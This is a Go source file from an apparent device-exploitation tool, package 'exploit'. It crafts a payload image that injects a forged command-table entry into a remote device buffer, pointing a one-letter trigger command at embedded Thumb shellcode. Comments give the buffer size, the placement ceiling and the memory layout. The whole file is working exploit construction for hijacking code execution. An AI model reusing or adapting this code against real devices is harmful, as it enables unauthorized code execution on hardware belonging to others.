package exploit

import (
	"encoding/binary"
	"errors"
	"fmt"
)

// HaxCommandName is the name of the command-table entry injected into the
// device. Kept to a single character so the trigger line stays tiny.
const HaxCommandName = "A"

const (
	// payloadMaxLen is how much of the remote buffer is reachable without
	// touching its final validated chunk. The buffer itself is 0x184 bytes;
	// sending the last chunk corrupts state, so placement stops at 350.
	payloadMaxLen = 350

	// payloadChunkLen is the challenge-protocol chunk unit; placement
	// transfers whole chunks only.
	payloadChunkLen = 50

	// Remote layout of the crafted payload: two 12-byte command-table
	// entries {name ptr, func ptr, mask}, the command name (with NUL), then
	// the shellcode 4-byte aligned.
	cmdEntrySize    = 12
	cmdNameOffset   = 2 * cmdEntrySize
	shellcodeOffset = 28
)

// ErrPayloadTooLarge reports a shellcode blob that cannot fit under the
// placement ceiling. Nothing is transmitted in this case.
var ErrPayloadTooLarge = errors.New("crafted payload exceeds placement ceiling")

// CraftPayload builds the byte image placed into the device buffer at
// fc.BufAddr: a replacement command table whose first entry points at the
// embedded command name and shellcode (low bit set to mark it Thumb),
// followed by a zero terminator entry, the name bytes and the shellcode.
// The result is padded with zeros to a whole number of placement chunks.
func CraftPayload(fc FwConstants) ([]byte, error) {
	total := shellcodeOffset + len(fc.Shellcode)
	if total > payloadMaxLen {
		return nil, fmt.Errorf("%w: %d > %d bytes", ErrPayloadTooLarge, total, payloadMaxLen)
	}

	payload := make([]byte, alignUp(total, payloadChunkLen))
	binary.LittleEndian.PutUint32(payload[0:], fc.BufAddr+cmdNameOffset)
	binary.LittleEndian.PutUint32(payload[4:], (fc.BufAddr+shellcodeOffset)|1)
	binary.LittleEndian.PutUint32(payload[8:], 0xf)
	// entries[1] stays zero: the table walk stops at the empty entry.
	copy(payload[cmdNameOffset:], HaxCommandName)
	copy(payload[shellcodeOffset:], fc.Shellcode)
	return payload, nil
}

func alignUp(x, align int) int {
	rem := x % align
	if rem == 0 {
		return x
	}
	return x + align - rem
}
